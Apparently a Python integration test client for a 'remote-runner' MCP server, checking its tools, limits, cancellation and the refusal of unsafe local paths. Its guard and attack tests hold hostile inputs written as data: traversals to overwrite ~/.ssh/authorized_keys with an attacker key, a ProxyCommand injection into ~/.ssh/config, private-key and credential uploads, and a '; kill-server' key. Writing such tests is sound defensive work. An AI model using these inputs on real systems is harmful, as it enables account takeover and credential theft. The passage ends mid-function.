"""Drives `remote-runner mcp` with the official MCP Python SDK (the `mcp` package).

Run by cli/tests/mcp.rs, which sets the environment:
  RR_BIN        the remote-runner binary
  RR_STATE_DIR  the sandbox's state dir
  RR_MACHINE    the machine to test on (`local` or the sshd bed's `bed`)
  RR_WORK       a work directory on that machine, also readable here
  HOME, REMOTE_RUNNER_SSH_CONFIG (for the bed) are passed on to the server.
  RR_SECRET, RR_SECRET_MACHINE (optional) a machine added with a password, and the password:
                it must appear in no tool result of the suite, and nowhere in the log of a server
                at RUST_LOG=trace that uses the machine.

`client.py suite` checks every tool, error shape, truncation, progress, cancel, a server
restart and the scope flags; `client.py guard` that the state dir and ~/.ssh are out of reach of
the local side of file_put, file_get and run_once; `client.py raw` that malformed input lines on
the raw stdio are skipped with a note on stderr while the server keeps serving; `client.py bench N` prints the latency of `session_exec` of `true`
on a warm session as one JSON line. Any failed check raises, so the exit code says it all.
"""

import asyncio
import hashlib
import json
import os
import subprocess
import sys
import tempfile
import time
from contextlib import asynccontextmanager

import jsonschema
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

BIN = os.environ["RR_BIN"]
STATE = os.environ["RR_STATE_DIR"]
MACHINE = os.environ["RR_MACHINE"]
WORK = os.environ["RR_WORK"]

TOOLS = {
    "machine_list": [],
    "session_create": ["machine", "cwd"],
    "session_list": [],
    "session_exec": ["session_id", "command", "timeout_s", "background"],
    "command_wait": ["session_id", "command_id", "timeout_s"],
    "command_stop": ["session_id", "command_id"],
    "session_send": ["session_id", "input", "keys", "wait_for", "quiet_ms", "timeout_s"],
    "session_read": ["session_id", "since"],
    "session_destroy": ["session_id"],
    "file_read": ["session_id", "path", "offset", "length"],
    "file_write": ["session_id", "path", "content"],
    "file_put": ["session_id", "local", "remote"],
    "file_get": ["session_id", "local", "remote"],
    "run_once": ["machine", "command", "cwd", "inputs", "artifacts"],
    "code_run": ["machine", "language", "program", "time_budget_s"],
}
SEEN = []  # every tool result's text and JSON, searched for the secret at the end
ERRLOG = os.path.join(os.path.dirname(STATE), "mcp-server-stderr.log")
# The server runs in ROOT (its default root, the directory it starts in) and the tests keep
# their local files in temporary directories beneath it.
ROOT = os.path.join(os.path.dirname(STATE), "mcp-root")
os.makedirs(ROOT, exist_ok=True)
tempfile.tempdir = ROOT
READING = {"machine_list", "session_list", "session_read", "command_wait", "file_read"}
MAX_OUTPUT = 64 * 1024


def env(extra=None):
    e = {"HOME": os.environ["HOME"], "PATH": os.environ["PATH"]}
    for k in ("REMOTE_RUNNER_SSH_CONFIG", "RUST_LOG", "REMOTE_RUNNER_KEEPER"):
        if k in os.environ:
            e[k] = os.environ[k]
    return {**e, **(extra or {})}


@asynccontextmanager
async def server(*flags, extra_env=None, errlog_path=ERRLOG, cwd=ROOT, drop_env=()):
    # The SDK merges its default environment (HOME among it) under ours: a variable is really
    # left out by starting the server through `env -u`.
    unset = [a for k in drop_env for a in ("-u", k)]
    params = StdioServerParameters(
        command="env", args=[*unset, BIN, "--state-dir", STATE, "mcp", *flags], env=env(extra_env), cwd=cwd
    )
    with open(errlog_path, "a") as errlog:
        async with stdio_client(params, errlog=errlog) as (r, w):
            async with ClientSession(r, w) as s:
                await s.initialize()
                call = s.call_tool

                async def recorded(*a, **k):
                    res = await call(*a, **k)
                    SEEN.append(text(res) + json.dumps(res.structured_content))
                    return res

                s.call_tool = recorded
                yield s


def cli(*args):
    """The CLI beside the server, on the same state dir: its --json object."""
    out = subprocess.run(
        [BIN, "--state-dir", STATE, *args, "--json"],
        env=env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, f"{args}: {out.stderr}"
    return json.loads(out.stdout)


def text(res):
    return "".join(c.text for c in res.content if c.type == "text")


async def ok(s, tool, args, **kw):
    res = await s.call_tool(tool, args, **kw)
    assert not res.is_error, f"{tool} {args} failed: {text(res)}"
    assert isinstance(res.structured_content, dict), res
    return res


async def tool_error(s, tool, args, code):
    res = await s.call_tool(tool, args)
    assert res.is_error, f"{tool} {args} should have failed: {text(res)}"
    assert f"[{code}]" in text(res), text(res)
    err = res.structured_content["error"]
    assert err["code"] == code, err
    assert err["message"] and isinstance(err["retryable"], bool), err
    return res


async def exec_(s, sid, command, **extra):
    res = await ok(s, "session_exec", {"session_id": sid, "command": command, **extra})
    return res, res.structured_content


def check(cond, what):
    if not cond:
        raise AssertionError(what)
    print(f"ok: {what}", flush=True)


# ------------------------------------------------------------------------------------------------


async def initialize_and_list(s):
    tools = (await s.list_tools()).tools
    names = {t.name for t in tools}
    check(names == set(TOOLS), f"the fifteen tools are listed: {sorted(names)}")
    for t in tools:
        schema = t.input_schema
        jsonschema.Draft202012Validator.check_schema(schema)
        assert schema["type"] == "object", t.name
        assert sorted(schema["properties"]) == sorted(TOOLS[t.name]), (t.name, schema)
        assert schema.get("additionalProperties") is False, t.name
        a = t.annotations
        assert a.read_only_hint == (t.name in READING), t.name
        if not a.read_only_hint:
            assert a.destructive_hint is not None, t.name
    check(True, "every input schema is a valid JSON Schema with the issue's arguments")
    ann = {t.name: t.annotations for t in tools}
    check(
        ann["session_exec"].destructive_hint and not ann["session_exec"].idempotent_hint,
        "session_exec is destructive and not idempotent",
    )
    check(ann["command_stop"].idempotent_hint, "command_stop is idempotent")
    check(ann["session_destroy"].idempotent_hint, "session_destroy is idempotent")


async def basics(s):
    res = await ok(s, "machine_list", {})
    ids = [m["machine_id"] for m in res.structured_content["machines"]]
    check(MACHINE in ids, f"machine_list has {MACHINE}: {ids}")
    check(res.structured_content == cli("machine", "list"), "machine_list is `machine list --json`")

    res = await ok(s, "session_create", {"machine": MACHINE, "cwd": WORK})
    sid = res.structured_content["session_id"]
    check(res.structured_content["cwd"] == WORK and sid in text(res), "session_create")
    listed = [x["session_id"] for x in cli("session", "list")["sessions"]]
    check(sid in listed, "the session shows in `remote-runner session list`")
    res = await ok(s, "session_list", {})
    check(sid in [x["session_id"] for x in res.structured_content["sessions"]], "session_list")
    return sid


async def commands(s, sid):
    res, rec = await exec_(s, sid, "echo hello; echo oops >&2")
    check(
        rec["status"] == "completed" and rec["exit_code"] == 0 and rec["stdout"] == "hello\n",
        "session_exec returns status, exit code and stdout",
    )
    check("hello" in text(res) and "oops" in text(res), "the text carries stdout and stderr")
    shown = cli("session", "command", "show", "--session", sid, "--command-id", rec["command_id"])
    check(sorted(shown) == sorted(rec), "the result has the CLI record's fields")
    for k in ("command_id", "status", "exit_code", "stdout", "stderr", "stdout_bytes", "mode"):
        assert shown[k] == rec[k], (k, shown[k], rec[k])
    check(True, "and their values")

    res, rec = await exec_(s, sid, "sh -c 'exit 3'")
    check(
        not res.is_error and rec["exit_code"] == 3 and rec["status"] == "failed",
        "a failing command is a result: exit_code 3, isError false",
    )
    await tool_error(s, "session_exec", {"session_id": "sess_missing", "command": "true"}, "unknown_session")
    check(True, "an unknown session is a tool error with its code")

    await exec_(s, sid, "mkdir -p sub && cd sub && export RR_MCP_VAR=kept")
    _, rec = await exec_(s, sid, 'pwd; echo "$RR_MCP_VAR"')
    check(rec["stdout"] == f"{WORK}/sub\nkept\n", "cd and export persist between calls")
    await exec_(s, sid, f"cd {WORK}")

    res, rec = await exec_(s, sid, "sleep 2; echo late", timeout_s=0.5)
    check(
        rec["status"] == "running" and rec["wait_timed_out"] and rec["command_id"] in text(res),
        "past timeout_s: status running with the command_id",
    )
    res = await ok(s, "command_wait", {"session_id": sid, "command_id": rec["command_id"], "timeout_s": 30})
    w = res.structured_content
    check(w["status"] == "completed" and w["stdout"] == "late\n", "command_wait gets the end")

    _, rec = await exec_(s, sid, "sleep 1; echo bg", background=True)
    check(rec["status"] == "running" and rec["mode"] == "background", "background returns at once")
    res = await ok(s, "command_wait", {"session_id": sid, "command_id": rec["command_id"]})
    check(res.structured_content["stdout"] == "bg\n", "a background command's output")

    _, rec = await exec_(s, sid, "sleep 100", background=True)
    ref = {"session_id": sid, "command_id": rec["command_id"]}
    res = await ok(s, "command_stop", ref)
    check(res.structured_content["status"] == "stopped", "command_stop stops it")
    res = await ok(s, "command_stop", ref)
    check(res.structured_content["already_finished"] is True, "stopping again is safe")


async def bad_arguments(s, sid):
    await tool_error(s, "session_exec", {"session_id": sid}, "invalid_argument")
    res = await tool_error(
        s, "session_exec", {"session_id": sid, "command": "true", "timeout_s": "soon"}, "invalid_argument"
    )
    check("session_exec" in text(res), "a wrong type names the tool")
    res = await tool_error(s, "session_exec", {"session_id": sid, "command": "true", "nope": 1}, "invalid_argument")
    check("nope" in text(res), "an unknown argument is named")
    await tool_error(s, "session_exec", {"session_id": sid, "command": "true", "timeout_s": -1}, "invalid_argument")
    res = await s.call_tool("no_such_tool", {})
    check(res.is_error and "no_such_tool" in text(res), "an unknown tool is a clear error")
    _, rec = await exec_(s, sid, "echo still")
    check(rec["stdout"] == "still\n", "the server keeps serving after bad arguments")


async def truncation(s, sid):
    n = 1_400_000
    expected = ("\n".join(str(i) for i in range(1, n + 1)) + "\n").encode()
    assert len(expected) > 10_000_000
    t = time.perf_counter()
    res, rec = await exec_(s, sid, f"seq 1 {n}", timeout_s=120)
    took = time.perf_counter() - t
    body = text(res)
    check(rec["stdout_bytes"] == len(expected) and rec["stdout_truncated"], "10 MB: the full size is known")
    check(len(rec["stdout"]) <= MAX_OUTPUT + 512, f"the structured stdout is capped ({len(rec['stdout'])})")
    check(len(body) <= 2 * MAX_OUTPUT, f"the text is capped ({len(body)} bytes)")
    check(rec["stdout"].startswith("1\n2\n3\n") and rec["stdout"].endswith(f"{n - 1}\n{n}\n"), "head and tail kept")
    check(f"{len(expected)} bytes in all" in body and "file_read" in body, "the note says how to read the rest")
    got = bytearray()
    while True:
        r = await ok(s, "file_read", {"session_id": sid, "path": rec["remote_stdout_file"], "offset": len(got)})
        c = r.structured_content
        assert c["encoding"] == "utf-8" and c["bytes"] <= MAX_OUTPUT, c["bytes"]
        got += c["content"].encode()
        if c["eof"]:
            break
    check(
        hashlib.sha256(got).hexdigest() == hashlib.sha256(expected).hexdigest(),
        f"the whole 10 MB read back with file_read is exact ({len(got)} bytes; exec took {took:.2f} s)",
    )
    r = await ok(s, "session_read", {"session_id": sid})
    check(r.structured_content["bytes"] <= MAX_OUTPUT and r.structured_content["more"], "session_read is capped too")


async def progress_and_cancel(s, sid):
    seen = []

    async def on_progress(progress, total, message):
        seen.append((progress, message))

    res = await ok(
        s,
        "session_exec",
        {"session_id": sid, "command": "for i in 1 2 3 4 5; do echo line$i; sleep 0.5; done", "timeout_s": 30},
        progress_callback=on_progress,
    )
    check(res.structured_content["stdout"].count("line") == 5, "the command ran to its end")
    check(len(seen) >= 2, f"progress notifications while it ran: {seen}")
    check(all(b[0] > a[0] for a, b in zip(seen, seen[1:])), "progress increases")
    check(any("line" in (m or "") and "bytes" in (m or "") for _, m in seen), "with bytes so far and the last line")

    # Two notifications are due (at about 5 s and 10 s); 16 s leaves room for a loaded machine.
    quiet = []

    async def on_quiet(progress, total, message):
        quiet.append((progress, message))

    res = await ok(
        s,
        "session_exec",
        {"session_id": sid, "command": "sleep 16; echo woke", "timeout_s": 30},
        progress_callback=on_quiet,
    )
    check(res.structured_content["stdout"] == "woke\n", "a silent command ran to its end")
    check(
        len(quiet) >= 2 and all("0 bytes of stdout" in (m or "") for _, m in quiet),
        f"progress every few seconds while it printed nothing: {quiet}",
    )

    marker = f"{WORK}/cancelled-marker"
    t = time.perf_counter()
    try:
        await s.call_tool(
            "session_exec",
            {"session_id": sid, "command": f"sleep 3; echo done > {marker}", "timeout_s": 60},
            read_timeout_seconds=1.0,
        )
        raise AssertionError("the call should have been abandoned")
    except AssertionError:
        raise
    except Exception as e:  # the SDK's timeout error; it sends notifications/cancelled
        print(f"abandoned: {type(e).__name__}")
    check(time.perf_counter() - t < 2.5, "the client stopped waiting")
    r = await ok(s, "machine_list", {})
    check(bool(r.structured_content["machines"]), "the server answers after a cancel")
    logs = [x.uri for x in (await s.list_resources()).resources if f"/sessions/{sid}/commands/" in str(x.uri)]
    cid = str(logs[-1]).split("/commands/")[1].split("/")[0]
    r = await ok(s, "command_wait", {"session_id": sid, "command_id": cid, "timeout_s": 30})
    check(r.structured_content["status"] == "completed", "the cancelled call's command went on to its end")
    r = await ok(s, "file_read", {"session_id": sid, "path": marker})
    check(r.structured_content["content"] == "done\n", "and did its work")


async def send_and_read(s, sid):
    _, rec = await exec_(s, sid, "read -r answer; echo got:$answer", timeout_s=5)
    check(rec["status"] == "waiting_input", "session_exec returns waiting_input for a prompt")
    res = await ok(s, "session_send", {"session_id": sid, "input": "forty-two"})
    c = res.structured_content
    check(c["bytes_sent"] == len("forty-two"), "session_send types the input")
    check(c["status"] == "completed" and c["exit_code"] == 0, "session_send returns with the command's end")
    check("got:forty-two" in c["output"], "session_send returns the reply")
    # A REPL: one call each to set and print, the reply waited for by a pattern.
    _, rec = await exec_(s, sid, "python3 -q", timeout_s=5)
    check(rec["status"] == "waiting_input", "python3 -q waits for input")
    res = await ok(s, "session_send", {"session_id": sid, "input": "x = 6*7", "wait_for": ">>> $"})
    check(res.structured_content["matched"], "the prompt came back")
    res = await ok(s, "session_send", {"session_id": sid, "input": "print(x)", "wait_for": ">>> $"})
    check("42" in res.structured_content["output"], "print(x) answers 42")
    res = await ok(s, "session_send", {"session_id": sid, "keys": ["C-d"]})
    check(res.structured_content["status"] == "completed", "C-d ends the REPL")
    # Ctrl-C interrupts; a pattern that never comes times out with what came.
    _, rec = await exec_(s, sid, "sleep 100", timeout_s=0.5)
    res = await ok(s, "session_send", {"session_id": sid, "keys": ["C-c"], "timeout_s": 10})
    check(res.structured_content["exit_code"] == 130, "C-c interrupts with exit code 130")
    _, rec = await exec_(s, sid, "while :; do echo tick; sleep 0.05; done", timeout_s=0.5)
    res = await ok(s, "session_send", {"session_id": sid, "input": "", "wait_for": "never-printed", "timeout_s": 1})
    check(res.structured_content["timed_out"] and not res.structured_content["matched"], "wait_for times out")
    check("tick" in res.structured_content["output"], "the output that came is returned")
    await ok(s, "session_send", {"session_id": sid, "keys": ["C-c"], "timeout_s": 10})
    # As an agent would: wait for the interrupted command to be settled before the next exec
    # (on a loaded machine the send can return before the end is recorded).
    r = await ok(s, "command_wait", {"session_id": sid, "command_id": rec["command_id"], "timeout_s": 30})
    c = r.structured_content
    check(
        c["exit_code"] == 130,
        f"C-c ends the loop with exit code 130 (got {c.get('status')}, {c.get('exit_code')}, "
        f"{c.get('end_reason')}; last output {(c.get('stdout') or '')[-200:]!r})",
    )
    await tool_error(s, "session_send", {"session_id": sid, "keys": ["; kill-server"]}, "invalid_argument")
    r = await ok(s, "session_read", {"session_id": sid})
    c = r.structured_content
    check(c["since"] == 0 and c["cursor"] == c["bytes"] and "hello" in c["text"], "session_read from the start")
    r2 = await ok(s, "session_read", {"session_id": sid, "since": c["cursor"]})
    check(r2.structured_content["since"] == c["cursor"], "session_read from a cursor")


async def files(s, sid):
    await tool_error(s, "file_write", {"session_id": sid, "path": "nodir/a.txt", "content": "x"}, "remote_not_found")
    await exec_(s, sid, "mkdir -p notes")
    r = await ok(s, "file_write", {"session_id": sid, "path": "notes/a.txt", "content": "héllo\nwörld\n"})
    check(r.structured_content["path"] == f"{WORK}/notes/a.txt", "file_write: relative to the session's cwd")
    r = await ok(s, "file_read", {"session_id": sid, "path": "notes/a.txt"})
    check(r.structured_content["content"] == "héllo\nwörld\n", "file_read reads it back")
    r = await ok(s, "file_read", {"session_id": sid, "path": "notes/a.txt", "offset": 7, "length": 3})
    check(r.structured_content["content"] == "wö", "offset and length count bytes")
    await exec_(s, sid, "printf '\\377\\376\\000' > bin")
    r = await ok(s, "file_read", {"session_id": sid, "path": "bin"})
    check(r.structured_content["encoding"] == "base64" and r.structured_content["content"] == "//4A", "bytes as base64")
    await tool_error(s, "file_read", {"session_id": sid, "path": "absent.txt"}, "remote_not_found")

    with tempfile.TemporaryDirectory() as d:
        src = os.path.join(d, "up.bin")
        data = os.urandom(300_000)
        with open(src, "wb") as f:
            f.write(data)
        r = await ok(s, "file_put", {"session_id": sid, "local": src, "remote": "up.bin"})
        check(r.structured_content["status"] == "succeeded", "file_put")
        back = os.path.join(d, "back.bin")
        r = await ok(s, "file_get", {"session_id": sid, "local": back, "remote": "up.bin"})
        with open(back, "rb") as f:
            check(f.read() == data, "file_get brings the same bytes back")


async def runs(s):
    with tempfile.TemporaryDirectory() as d:
        src = os.path.join(d, "in.txt")
        with open(src, "w") as f:
            f.write("input\n")
        out = os.path.join(d, "out.txt")
        r = await ok(
            s,
            "run_once",
            {
                "machine": MACHINE,
                "cwd": WORK,
                "command": "cat in.txt > out.txt; echo made >> out.txt; exit 4",
                "inputs": [{"local": src, "remote": "in.txt"}],
                "artifacts": [{"remote": "out.txt", "local": out}],
            },
        )
        m = r.structured_content
        check(m["exit_code"] == 4 and not r.is_error, "run_once: the exit code, not a tool error")
        with open(out) as f:
            check(f.read() == "input\nmade\n", "run_once: inputs up, artifacts down")
    with tempfile.TemporaryDirectory() as d:
        res = await s.call_tool(
            "run_once",
            {"machine": MACHINE, "cwd": WORK, "command": "true", "inputs": [{"local": f"{d}/absent", "remote": "a"}]},
        )
        check(
            res.is_error and "error [" in text(res) and res.structured_content["status"] == "failed",
            "run_once that cannot upload its input is a tool error, with the manifest",
        )
    cli("machine", "add", "mcp-down", "--host", "127.0.0.1", "--port", "1", "--user", "nobody", "--default-cwd", "/tmp")
    await tool_error(s, "run_once", {"machine": "mcp-down", "command": "true"}, "connection_failed")
    await tool_error(s, "session_create", {"machine": "mcp-down"}, "connection_failed")
    check(True, "an unreachable machine is a tool error for run_once and session_create")
    cli("machine", "remove", "mcp-down")
    r = await ok(s, "code_run", {"machine": MACHINE, "language": "python", "program": "print('hi')\nreturn 6 * 7"})
    check(r.structured_content.get("value") == 42 and r.structured_content["logs"] == ["hi"], "code_run")
    r = await ok(s, "code_run", {"machine": MACHINE, "language": "python", "program": "raise ValueError('no')"})
    check(r.structured_content["error"]["kind"] == "exception" and not r.is_error, "a failing program is a result")


async def resources(s, sid):
    res = (await s.list_resources()).resources
    uris = [str(r.uri) for r in res]
    t = f"remote-runner://sessions/{sid}/transcript"
    check(t in uris, "the transcript is listed")
    logs = [u for u in uris if u.startswith(f"remote-runner://sessions/{sid}/commands/")]
    check(len(logs) >= 3, "command logs are listed")
    tr = await s.read_resource(t)
    check("hello" in tr.contents[0].text, "the transcript reads")
    templates = (await s.list_resource_templates()).resource_templates
    check(len(templates) == 2, "two resource templates")
    first = await s.read_resource(logs[0])
    check("hello" in first.contents[0].text, "a command log reads")


async def destroy(s, sid):
    r = await ok(s, "session_destroy", {"session_id": sid})
    check(r.structured_content["status"] == "destroyed", "session_destroy")
    again = await ok(s, "session_destroy", {"session_id": sid})
    check(
        again.structured_content["status"] == "destroyed" and again.structured_content["stopped_commands"] == [],
        "destroying it again changes nothing (as its idempotent annotation says)",
    )
    st = [x["status"] for x in cli("session", "list")["sessions"] if x["session_id"] == sid]
    check(st == ["destroyed"], "the CLI sees it destroyed")


async def suite():
    async with server() as s:
        await initialize_and_list(s)
        sid = await basics(s)
        await commands(s, sid)
        await bad_arguments(s, sid)
        await exec_(s, sid, "export RR_BEFORE_RESTART=yes")
    # A new server process: the session, its shell and its state are still there.
    async with server() as s:
        r = await ok(s, "session_list", {})
        mine = [x for x in r.structured_content["sessions"] if x["session_id"] == sid]
        check(mine and mine[0]["status"] == "active", "after a server restart the session is listed")
        _, rec = await exec_(s, sid, 'echo "$RR_BEFORE_RESTART"')
        check(rec["stdout"] == "yes\n", "and its shell kept its state")
        await truncation(s, sid)
        await progress_and_cancel(s, sid)
        await send_and_read(s, sid)
        await files(s, sid)
        await runs(s)
        await resources(s, sid)
    async with server("--read-only") as s:
        names = {t.name for t in (await s.list_tools()).tools}
        check(names == READING, f"--read-only lists the reading tools only: {sorted(names)}")
        await tool_error(s, "session_exec", {"session_id": sid, "command": "true"}, "permission_denied")
        r = await ok(s, "session_read", {"session_id": sid})
        check(r.structured_content["bytes"] > 0, "reading works under --read-only")
    async with server("--max-output-bytes", "4096") as s:
        _, rec = await exec_(s, sid, "seq 1 5000; seq 1 3000 >&2")
        check(
            rec["stdout_truncated"] and len(rec["stdout"]) <= 4096 + 512 and rec["stderr_truncated"],
            f"--max-output-bytes 4096 caps both excerpts ({len(rec['stdout'])}, {len(rec['stderr'])})",
        )
        r = await ok(s, "file_read", {"session_id": sid, "path": rec["remote_stdout_file"], "length": 100000})
        check(r.structured_content["bytes"] == 4096, "and file_read's length")
    if MACHINE != "local":
        async with server("--machine", "local") as s:
            r = await ok(s, "machine_list", {})
            check([m["machine_id"] for m in r.structured_content["machines"]] == ["local"], "--machine limits machine_list")
            await tool_error(s, "session_exec", {"session_id": sid, "command": "true"}, "permission_denied")
            await tool_error(s, "session_create", {"machine": MACHINE}, "permission_denied")
            r = await ok(s, "session_list", {})
            check(sid not in [x["session_id"] for x in r.structured_content["sessions"]], "and session_list")
    async with server() as s:
        await destroy(s, sid)
    await secrets()
    print("suite passed")


async def secrets():
    secret, machine = os.environ.get("RR_SECRET"), os.environ.get("RR_SECRET_MACHINE")
    if not secret:
        return
    trace = ERRLOG + ".trace"
    async with server(extra_env={"RUST_LOG": "trace"}, errlog_path=trace) as s:
        r = await ok(s, "machine_list", {})
        check(machine in [m["machine_id"] for m in r.structured_content["machines"]], "the password machine is listed")
        r = await ok(s, "session_create", {"machine": machine, "cwd": WORK})
        psid = r.structured_content["session_id"]
        _, rec = await exec_(s, psid, "echo over-password")
        check(rec["stdout"] == "over-password\n", "a session over password authentication")
        await ok(s, "session_destroy", {"session_id": psid})
        await tool_error(s, "session_exec", {"session_id": "sess_missing", "command": "true"}, "unknown_session")
    with open(trace) as f:
        log = f.read()
    check(len(log) > 0, f"the server logged ({len(log)} bytes at RUST_LOG=trace)")
    check(not any(secret in x for x in SEEN), f"the password is in none of {len(SEEN)} tool results")
    check(secret not in log, "nor in the server's log")


async def session(s):
    r = await ok(s, "session_create", {"machine": MACHINE, "cwd": WORK})
    return r.structured_content["session_id"]


def fake_home():
    """The fake HOME of the test (a temp dir), with ~/.ssh holding a key, authorized_keys and
    config, and a ~/.bashrc."""
    home = os.environ["HOME"]
    ssh = os.path.join(home, ".ssh")
    os.makedirs(ssh, exist_ok=True)
    for name, body in [("id_test", "PRIVATE-KEY-SENTINEL\n"), ("authorized_keys", "ssh-ed25519 AAAA owner\n"), ("config", "Host *\n")]:
        path = os.path.join(ssh, name)
        if not os.path.exists(path):
            with open(path, "w") as f:
                f.write(body)
    bashrc = os.path.join(home, ".bashrc")
    if not os.path.exists(bashrc):
        with open(bashrc, "w") as f:
            f.write("# the user's own\n")
    return home


def snapshot(home):
    """Every file of ~/.ssh and ~/.bashrc (or of the directory `home`) with its bytes."""
    out = {}
    bashrc = os.path.join(home, ".bashrc")
    if os.path.exists(bashrc):
        out[bashrc] = open(bashrc, "rb").read()
    top = os.path.join(home, ".ssh") if os.path.isdir(os.path.join(home, ".ssh")) else home
    for dirpath, _, files in os.walk(top):
        for f in files:
            p = os.path.join(dirpath, f)
            with open(p, "rb") as fh:
                out[p] = fh.read()
    return out


async def remote_file(s, sid, name, content):
    await ok(s, "file_write", {"session_id": sid, "path": name, "content": content})


async def local_guard():
    """The state dir and ~/.ssh are out of reach of file_put, file_get and run_once, and so is
    everything outside the root; inside it, files still transfer."""
    home = fake_home()
    async with server() as s:
        sid = await session(s)
        with tempfile.TemporaryDirectory() as d:
            link = os.path.join(d, "link")
            os.symlink(STATE, link)
            for tool, local in [
                ("file_put", STATE),
                ("file_put", os.path.join(STATE, "credentials.json")),
                ("file_put", os.path.join(STATE, "logs", "..", "state.sqlite3")),
                ("file_put", link),
                ("file_put", home),
                ("file_get", os.path.join(STATE, "state.sqlite3")),
                ("file_get", os.path.join(link, "new.txt")),
                ("file_get", os.path.join(home, ".ssh", "known_hosts")),
                ("file_put", os.path.join(d, "..", "..", "state", "credentials.json")),
                ("file_get", "../x.txt"),
            ]:
                res = await tool_error(
                    s, tool, {"session_id": sid, "local": local, "remote": "x"}, "permission_denied"
                )
                check(local in text(res) and "--root" in text(res), f"{tool} refuses {local}")
            await tool_error(
                s,
                "run_once",
                {"machine": MACHINE, "command": "true", "inputs": [{"local": STATE, "remote": "s"}]},
                "permission_denied",
            )
            await tool_error(
                s,
                "run_once",
                {"machine": MACHINE, "command": "true", "artifacts": [{"remote": "x", "local": os.path.join(STATE, "y")}]},
                "permission_denied",
            )
            check(True, "run_once refuses them as inputs and artifacts")
            src = os.path.join(d, "fine.txt")
            with open(src, "w") as f:
                f.write("fine\n")
            await ok(s, "file_put", {"session_id": sid, "local": src, "remote": "fine.txt"})
            await ok(s, "file_get", {"session_id": sid, "local": os.path.join(d, "back.txt"), "remote": "fine.txt"})
            rel = os.path.relpath(os.path.join(d, "rel.txt"), ROOT)
            await ok(s, "file_get", {"session_id": sid, "local": rel, "remote": "fine.txt"})
            check(open(os.path.join(d, "rel.txt")).read() == "fine\n", "a relative local path is taken from the root")
            # A directory both ways, with a symlink inside it.
            tree = os.path.join(d, "tree")
            os.makedirs(os.path.join(tree, "sub"))
            with open(os.path.join(tree, "sub", "a.txt"), "w") as f:
                f.write("a\n")
            os.symlink("sub/a.txt", os.path.join(tree, "to-a"))
            await ok(s, "file_put", {"session_id": sid, "local": tree, "remote": "tree"})
            back = os.path.join(d, "treeback")
            await ok(s, "file_get", {"session_id": sid, "local": back, "remote": "tree"})
            check(open(os.path.join(back, "sub", "a.txt")).read() == "a\n" and os.readlink(os.path.join(back, "to-a")) == "sub/a.txt",
                  "a directory goes up and comes back, its inner symlink kept")
            # Into an existing directory; over an existing file (file_get replaces, as before).
            await ok(s, "file_get", {"session_id": sid, "local": d + "/", "remote": "fine.txt"})
            check(open(os.path.join(d, "fine.txt")).read() == "fine\n", "a file goes inside an existing directory")
            with open(os.path.join(d, "back.txt"), "w") as f:
                f.write("old\n")
            await ok(s, "file_get", {"session_id": sid, "local": os.path.join(d, "back.txt"), "remote": "fine.txt"})
            check(open(os.path.join(d, "back.txt")).read() == "fine\n", "an existing file in the root is replaced")
            check(True, "other local paths still transfer")
        await ok(s, "session_destroy", {"session_id": sid})
    check(not os.path.exists(os.path.join(STATE, "mcp-stage")) or os.listdir(os.path.join(STATE, "mcp-stage")) == [],
          "no staging directory is left behind")
    print("guard passed")


async def attack_missing_dir():
    """Issue 42, item 1: file_get to <home>/<missing dir>/../.ssh/authorized_keys, and the same
    climb from inside the root."""
    home = fake_home()
    before = snapshot(home)
    async with server() as s:
        sid = await session(s)
        await remote_file(s, sid, "evil.pub", "ssh-ed25519 AAAA attacker\n")
        for local in [
            os.path.join(home, "nodir", "..", ".ssh", "authorized_keys"),
            os.path.join(ROOT, "nodir", "..", "..", "home", ".ssh", "authorized_keys"),
            os.path.join(ROOT, "nodir", "..", "..", "..", "..", "..", home.lstrip("/"), ".ssh", "authorized_keys"),
        ]:
            res = await tool_error(s, "file_get", {"session_id": sid, "local": local, "remote": "evil.pub"}, "permission_denied")
            check("outside the roots" in text(res), f"file_get to {local} is refused")
        await ok(s, "session_destroy", {"session_id": sid})
    check(snapshot(home) == before, "nothing in the home changed")
    print("attack passed")


async def attack_artifact():
    """Issue 42, item 1: a run_once artifact to ~/.ssh/config (directly and through a missing
    directory and ..)."""
    home = fake_home()
    before = snapshot(home)
    async with server() as s:
        for local in [os.path.join(home, ".ssh", "config"), os.path.join(home, "nodir", "..", ".ssh", "config")]:
            res = await s.call_tool("run_once", {
                "machine": MACHINE, "cwd": WORK, "command": "echo 'Host * ProxyCommand evil' > cfg",
                "artifacts": [{"remote": "cfg", "local": local}]})
            check(res.is_error and "[permission_denied]" in text(res), f"a run_once artifact to {local} is refused")
    check(snapshot(home) == before, "~/.ssh/config is untouched")
    print("attack passed")


async def attack_no_home():
    """Issue 42, item 2: a server started without HOME still keeps ~/.ssh out of reach."""
    home = fake_home()
    before = snapshot(home)
    async with server(drop_env=("HOME",)) as s:
        sid = await session(s)
        key = os.path.join(home, ".ssh", "id_test")
        await tool_error(s, "file_put", {"session_id": sid, "local": key, "remote": "stolen"}, "permission_denied")
        await remote_file(s, sid, "evil.pub", "ssh-ed25519 AAAA attacker\n")
        await tool_error(s, "file_get", {"session_id": sid, "local": os.path.join(home, ".ssh", "authorized_keys"), "remote": "evil.pub"}, "permission_denied")
        await ok(s, "session_destroy", {"session_id": sid})
    check(snapshot(home) == before, "without HOME: no key uploaded, authorized_keys unchanged")
    print("attack passed")


async def attack_keys_elsewhere():
    """Issue 42, item 3: a machine whose key and known_hosts live elsewhere (here beneath the
    root itself), and a hard link to a ~/.ssh key in the root: refused by identity."""
    home = fake_home()
    keys = os.path.join(ROOT, ".config", "rr")
    os.makedirs(keys, exist_ok=True)
    key, known = os.path.join(keys, "id_elsewhere"), os.path.join(keys, "known_hosts")
    for path, body in [(key, "ELSEWHERE-KEY\n"), (known, "[127.0.0.1]:1 ssh-ed25519 AAAA\n")]:
        with open(path, "w") as f:
            f.write(body)
    cli("machine", "add", "keys-elsewhere", "--host", "127.0.0.1", "--port", "1", "--user", "nobody",
        "--key-path", key, "--known-hosts-file", known, "--default-cwd", "/tmp")
    hard = os.path.join(ROOT, "innocent.txt")
    if not os.path.exists(hard):
        os.link(os.path.join(home, ".ssh", "id_test"), hard)
    before = snapshot(ROOT)
    async with server() as s:
        sid = await session(s)
        for local in [key, os.path.relpath(key, ROOT), hard]:
            res = await tool_error(s, "file_put", {"session_id": sid, "local": local, "remote": "stolen"}, "permission_denied")
            check("device and inode" in text(res), f"file_put of {local} is refused by identity")
        await remote_file(s, sid, "evil", "[127.0.0.1]:1 ssh-ed25519 EVIL\n")
